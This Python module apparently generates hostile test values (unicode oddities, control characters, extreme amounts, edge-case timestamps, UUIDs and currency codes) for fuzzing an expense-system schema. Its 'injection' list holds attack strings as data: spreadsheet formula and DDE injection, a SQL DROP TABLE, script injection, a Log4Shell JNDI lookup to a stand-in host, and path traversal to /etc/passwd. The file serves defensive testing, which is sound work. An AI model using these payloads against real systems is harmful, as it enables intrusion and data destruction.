"""Hostile leaf values for payloads.py: strings, amounts, timestamps, ids and enum picks.

Each function draws from the `random.Random` it is given and nothing else, so the same
stream gives the same values in any process. The values are legal wherever the schema walker
(walk.py) puts them: no string holds NUL or a lone surrogate (JSON could carry them,
but UTF-8 cannot encode a lone surrogate and NUL is refused by too many stores to be useful),
every timestamp is RFC 3339 and accepted by our `date-time` checker, every number is finite.
"""

from __future__ import annotations

import random
import uuid
from decimal import Decimal

# -- strings ------------------------------------------------------------------------------------

PLAIN = (
    "Acme ApS",
    "Travel",
    "Office supplies",
    "PRJ-ATLAS",
    "Client dinner",
    "Nordic Consulting AB",
    "Camille Laurent",
    "2640",
)
# Plausible values by property name, for the strings a payload's themes leave alone.
ORDINARY: dict[str, tuple[str, ...]] = {
    "code": ("7100", "2640", "PRJ-ATLAS", "EMP-1792", "V27536"),
    "identifier": ("acc-7100", "acc-1940"),
    "ingoingTaxAccount": ("2640",),
    "outgoingTaxAccount": ("2610",),
    "reconciliationId": ("PLEO-2026-000101",),
    "invoiceNumber": ("INV-2025-00042", "F-2025-00317"),
    "iban": ("DK5000400440116243",),
    "bic": ("DABADKKK",),
    "taxIdentifier": ("DK09474657",),
    "taxRegistrationNumber": ("DK09474657",),
    "registrationNumber": ("95910360",),
    "externalId": ("erp-vendor-27536",),
    "categoryCode": ("4511", "5812"),
}
EMOJI = (
    "\U0001f9fe\U0001f4b8\U0001f44d\U0001f3fd",  # receipt, money with wings, thumbs up + skin tone
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 team dinner",  # ZWJ family
    "\U0001f1e9\U0001f1f0\U0001f1f8\U0001f1ea flags",  # regional indicator pairs
    "\U0001f355 pizza \U0001f37a",
)
TEXT: dict[str, tuple[str, ...]] = {
    "unicode": (
        *EMOJI,
        "\u0634\u0631\u0643\u0629 \u0627\u0644\u0627\u062e\u062a\u0628\u0627\u0631",  # Arabic
        '\u05d7\u05d1\u05e8\u05ea \u05d1\u05d3\u05d9\u05e7\u05d4 \u05d1\u05e2"\u05de',  # Hebrew
        "\u202eTNEMYAP\u202c invoice",  # right-to-left override
        "Caf\u00e9 / Cafe\u0301",  # one word, NFC and NFD
        "Z\u0351\u0308\u0334a\u0337\u0308l\u0336\u031bg\u0335o",  # stacked combining marks
        "\u682a\u5f0f\u4f1a\u793e\u30c6\u30b9\u30c8 \u6771\u4eac",  # Japanese
        "\u0395\u03bb\u03bb\u03b7\u03bd\u03b9\u03ba\u03ae \u00c6\u00d8\u00c5 \u00df \u0130\u0131",
        "\U0001d504\U0001d520\U0001d52a\U0001d522 \U0001d7d9\U0001d7da",  # astral letters, digits
        "\u0926\u0947\u0935\u0928\u093e\u0917\u0930\u0940 \u0e44\u0e17\u0e22",  # Devanagari, Thai
    ),
    "control_chars": (
        "tab\there",
        "line\r\nbreak",
        "ansi \x1b[31mred\x1b[0m",
        "bell\x07 and \x01\x02\x1f",
        "del\x7f c1\x85\x9b",
        "line\u2028para\u2029sep",
        "\ufeffBOM first",
        "zero\u200bwidth\u200d\u2060joiners",
        "noncharacters \uffff\ufffe\U0010ffff",
        "soft\u00adhyphen",
        "backslash \\ quote \" apostrophe ' backtick `",
    ),
    "injection": (
        '=HYPERLINK("http://evil.invalid","click")',
        "+SUM(1+1)*cmd|' /C calc'!A0",
        "@SUM(A1)",
        "-2+3",
        "'; DROP TABLE vouchers; --",
        "<script>alert(1)</script>",
        "]]><!-- &amp; &lt; &#x0; -->",
        "%s%s%n%x {0} {{7*7}}",
        "${jndi:ldap://evil.invalid/a}",
        "../../etc/passwd",
        "C:\\CON\\AUX.txt",
        '{"json": true}',
        "null",
        "undefined",
        "NaN",
        "1e309",
    ),
    "blank_text": ("", " ", "   ", "\u00a0", "\u3000", "\t", "\n", "\u200b"),
}
LONG_LENGTHS = (4_096, 10_000, 10_001, 12_288)
# Code points for strings of a fixed length (ISO codes live in such fields).
ODD_CHARS = "\u20ac\u00c6\u00f8e\u0301 \U0001f600\u03a9\u0634xX0-"


def hostile_text(rng: random.Random, family: str) -> str:
    fragment = rng.choice(TEXT[family])
    draw = rng.random()
    if draw < 0.3:
        return fragment
    if draw < 0.7:
        return f"{rng.choice(PLAIN)} {fragment}"
    return f"{fragment}{rng.choice(TEXT[family])}"


def long_text(rng: random.Random, length: int | None = None) -> str:
    """Thousands of code points of mixed scripts, cut wherever the length falls."""
    size = length or rng.choice(LONG_LENGTHS)
    pool = (*PLAIN, *TEXT["unicode"], *TEXT["injection"])
    parts: list[str] = []
    total = 0
    while total < size:
        part = rng.choice(pool)
        parts.append(part)
        total += len(part) + 1
    return " ".join(parts)[:size]


def sized_text(rng: random.Random, low: int, high: int | None, hostile: bool) -> str:
    """A string of `low`..`high` code points (JSON Schema counts code points, not bytes)."""
    top = high if high is not None else max(low, 12)
    length = rng.randint(low, top)
    alphabet = ODD_CHARS if hostile else "ABCDEFGHJKLMNPQRSTUVWXYZ"
    return "".join(rng.choice(alphabet) for _ in range(length))


# -- numbers ------------------------------------------------------------------------------------

AMOUNTS: dict[str, tuple[int | float, ...]] = {
    "zero": (0, 0.0, -0.0),
    "negative": (-1, -0.01, -99.99, -123_456, -1e15, -(2**53) - 1),
    "huge": (10**12 + 1, 1e15, 999_999_999_999_999.9, 2**53 + 1, 2**63, 12_345_678_901_234_567_890),
    "fractional": (0.1, 0.2, 0.3, 0.01, 0.005, 1e-7, 2.675, 1.005, 0.1 + 0.2, 33.333333333333336),
}
AMOUNT_FAMILIES = tuple(AMOUNTS)
TAX_RATES = (0.25, 0.12, 0.06, 0.2, 0.19, 0.0)
ODD_TAX_RATES: dict[str, tuple[float, ...]] = {
    "zero": (0.0,),
    "negative": (-0.25,),
    "huge": (25.0, 100.0),  # a percentage where a fraction is expected
    "fractional": (0.255, 1 / 3, 0.07692307692307693),
}
ODD_FILE_SIZES = (0, 1, -1, -(2**31), 2**31 - 1)


def ordinary_amount(rng: random.Random) -> int:
    return rng.randint(100, 500_000)  # minor units, like the realistic generator


def odd_amount(rng: random.Random, family: str) -> int | float:
    if rng.random() < 0.6:
        return rng.choice(AMOUNTS[family])
    if family == "zero":
        return 0
    if family == "negative":
        return -ordinary_amount(rng)
    if family == "huge":
        return round(rng.uniform(1e12, 1e15), 2)
    return round(rng.uniform(0, 10_000), rng.choice((1, 3, 4)))


def exact(value: Decimal, *inputs: int | float) -> int | float:
    """A Decimal result back as JSON: an int when every input was one, else the nearest float."""
    if all(isinstance(v, int) for v in inputs):
        return int(value)
    return float(value)


def decimal(value: int | float) -> Decimal:
    # repr() is the shortest text that round-trips: 0.1 stays 0.1, not 0.1000000000000000055...
    return Decimal(value) if isinstance(value, int) else Decimal(repr(value))


# -- timestamps ---------------------------------------------------------------------------------

OFFSETS = ("+14:00", "-12:00", "+05:45", "+05:30", "-03:30", "+12:45", "-09:30", "+01:00")
ZULU = ("Z", "z", "+00:00", "-00:00")
ANCHORS = (
    "1970-01-01T00:00:00Z",
    "1969-12-31T23:59:59.999999Z",  # before the epoch
    "2038-01-19T03:14:08Z",  # past a signed 32-bit time_t
    "2099-12-31T23:59:59.999999999+14:00",
    "2024-12-31T23:30:00-12:00",  # already next year in UTC
    "2025-01-01T00:15:00+14:00",  # still last year in UTC
    "2024-02-29T00:00:00+05:45",
    "2024-03-31T02:30:00+01:00",  # inside a DST gap in Europe
    "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59Z",
)
YEARS = (1970, 1999, 2000, 2024, 2038, 2099)


def timestamp(rng: random.Random, hostile: bool) -> str:
    if not hostile:
        day = rng.randint(1, 28)
        clock = f"{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}:{rng.randint(0, 59):02d}"
        return f"2025-{rng.randint(1, 12):02d}-{day:02d}T{clock}Z"
    if rng.random() < 0.3:
        return rng.choice(ANCHORS)
    return offset_timestamp(rng, rng.choice((*OFFSETS, *ZULU)))


def offset_timestamp(rng: random.Random, offset: str) -> str:
    year, month = rng.choice(YEARS), rng.randint(1, 12)
    day = rng.randint(1, 29 if month == 2 and year % 4 == 0 else 28)
    clock = f"{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}:{rng.randint(0, 59):02d}"
    digits = rng.choice((0, 1, 3, 6, 9))
    fraction = "." + "".join(str(rng.randrange(10)) for _ in range(digits)) if digits else ""
    separator = rng.choice("TTt")
    return f"{year:04d}-{month:02d}-{day:02d}{separator}{clock}{fraction}{offset}"


# -- ids and enums ------------------------------------------------------------------------------

NIL_UUID = "00000000-0000-0000-0000-000000000000"
MAX_UUID = "ffffffff-ffff-ffff-ffff-ffffffffffff"


def seeded_uuid(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def odd_uuid(rng: random.Random) -> str:
    """Legal for `format: uuid` (8-4-4-4-12 hex), but never a lowercase version-4 UUID."""
    kind = rng.randrange(4)
    if kind == 0:
        return rng.choice((NIL_UUID, MAX_UUID, MAX_UUID.upper()))
    if kind == 1:
        return seeded_uuid(rng).upper()
    version = rng.choice((1, 3, 5, 7))  # and a random variant nibble
    text = str(uuid.UUID(int=rng.getrandbits(128) & ~(0xF << 76) | version << 76))
    if kind == 2:  # and in mixed case
        return "".join(c.upper() if rng.random() < 0.5 else c for c in text)
    return text


CURRENCIES = ("DKK", "EUR", "SEK", "NOK", "GBP", "USD")
CURRENCY_EDGES = (
    "UNDEFINED",
    *("XXX", "XTS", "XAU", "XDR", "BOV", "CLF", "UYW"),  # no currency, test, metal, funds
    *("JPY", "KRW", "ISK", "KWD", "BHD", "TND"),  # zero and three decimals
    *("LTL", "HRK", "VEF", "BYR", "MRO", "STD", "RUR"),  # withdrawn
    *("XCG", "ZWG", "VED", "SLE"),  # newer than many currency libraries
)
COUNTRIES = ("DK", "SE", "NO", "GB", "DE", "FR")
COUNTRY_EDGES = (
    "UNDEFINED",
    *("EU", "UK", "XK", "XI", "XU", "EZ"),  # not ISO 3166-1 countries
    *("AN", "YU", "CS", "SU", "ZR", "TP", "BU", "NT", "FX"),  # withdrawn
    *("AC", "CP", "DG", "EA", "IC", "TA", "SF"),  # reserved
    *("AQ", "BV"),  # no population
)


def enum_groups(options: list[str]) -> tuple[list[str], list[str]]:
    """The odd and the common members of an enum, for enum_pick (computed once per enum)."""
    members = set(options)
    odd = [v for v in (*CURRENCY_EDGES, *COUNTRY_EDGES) if v in members]
    common = [v for v in (*CURRENCIES, *COUNTRIES) if v in members]
    return odd, common


def enum_pick(
    rng: random.Random, options: list[str], groups: tuple[list[str], list[str]], edges: bool
) -> str:
    """A common member when the enum holds one, an odd one when `edges`, else any member."""
    odd, common = groups
    if edges and odd and rng.random() < 0.7:
        return rng.choice(odd)
    if common and (not edges or rng.random() < 0.5):
        return rng.choice(common)
    return rng.choice(options)
